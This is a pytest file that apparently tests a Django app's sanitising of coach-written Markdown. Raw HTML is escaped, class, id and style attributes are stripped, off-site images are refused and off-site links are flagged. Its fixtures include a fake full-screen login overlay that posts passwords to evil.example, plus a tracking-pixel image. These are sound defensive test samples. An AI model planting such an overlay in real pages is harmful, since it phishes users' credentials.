"""Coach Markdown (issue 21, finding 4): no class, id or style; no other site's image; other sites' links marked.

A coach's text is shown on candidates' pages, so it must not be able to draw over them (a ``position-fixed``
overlay with a fake login form), load a tracking image, or pass a link to another site off as the site's own.
"""

from __future__ import annotations

import pytest

from runbook.content import MAX_AUTHORED_SHORTCODES, render_authored, render_cached, render_markdown
from runbook.shortcodes import ShortcodeError

OVERLAY = ('<div class="position-fixed top-0 start-0 w-100 h-100" style="z-index: 9999" id="content">'
           '<form action="https://evil.example/login"><input name="password"></form></div>')


def test_raw_html_is_shown_as_text_not_markup():
    html = render_markdown(OVERLAY, authored=True).html
    assert "<div" not in html and "<form" not in html and "<input" not in html
    assert "&lt;div" in html


def test_block_attributes_give_no_class_id_or_style():
    html = render_markdown("Hello {.position-fixed #content}\n\n{.position-fixed}\nWorld\n", authored=True).html
    assert "class=" not in html and "id=" not in html and "style=" not in html


def test_an_image_from_another_site_is_refused_and_its_alt_text_shown():
    html = render_markdown("![tracker](https://evil.example/pixel.png) ![x](//evil.example/a.png)",
                           authored=True).html
    assert "<img" not in html
    assert "[image from another site not shown: tracker]" in html


def test_an_image_from_the_site_is_kept():
    html = render_markdown("![diagram](/static/img/kv.png)", authored=True).html
    assert '<img src="/static/img/kv.png" alt="diagram">' in html


def test_a_link_to_another_site_is_marked_and_a_link_inside_is_not():
    html = render_markdown("[docs](https://evil.example/login) and [the runbook](/runbook/)", authored=True).html
    outside = html.split("</a>")[0]
    assert 'rel="noopener noreferrer nofollow"' in outside
    assert 'title="Another site: https://evil.example/login"' in outside
    assert "↗" in outside and "(another site)" in outside
    assert '<a href="/runbook/">the runbook</a>' in html


def test_the_template_filters_render_fields_as_authored_text():
    html = render_cached(OVERLAY + "\n\n[x](https://evil.example/)").html
    assert "<div" not in html and "position-fixed" not in html.split("&lt;")[0]
    assert "↗" in html


def test_chapters_keep_their_anchors_and_classes():
    html = render_markdown("## Title {#kv-cache}\n\nText.").html
    assert '<h2 id="kv-cache">' in html


def test_a_coach_text_holds_at_most_ten_shortcodes():
    shortcode = "{{value ladder.users_worst_case}}"
    assert MAX_AUTHORED_SHORTCODES == 10
    render_authored(" ".join([shortcode] * 10))
    with pytest.raises(ShortcodeError, match="holds 11 shortcodes"):
        render_authored(" ".join([shortcode] * 11))


@pytest.mark.django_db
def test_the_question_form_refuses_eleven_shortcodes_and_the_preview_says_why(coach_client):
    many = " ".join(["{{value ladder.users_worst_case}}"] * 11)
    response = coach_client.post("/coach/questions/new/", {
        "prompt": many, "model_answer": "Fine.", "rubric": "one point", "difficulty": "2"})
    assert response.status_code == 200
    assert "holds 11 shortcodes" in response.content.decode()
    from drills.models import BankItem
    assert not BankItem.objects.filter(author__username="carol").exists()
    preview = coach_client.post("/coach/questions/preview/", {"field": "prompt", "prompt": many})
    assert "holds 11 shortcodes" in preview.content.decode()


def test_a_coachs_pasted_json_keeps_its_straight_quotes():
    html = render_markdown('Paste {"json": [1,2,3], "pasted": true} -- as is', authored=True).html
    assert '<p>Paste {"json": [1,2,3], "pasted": true} -- as is</p>' in html
    assert "“" not in html and "–" not in html
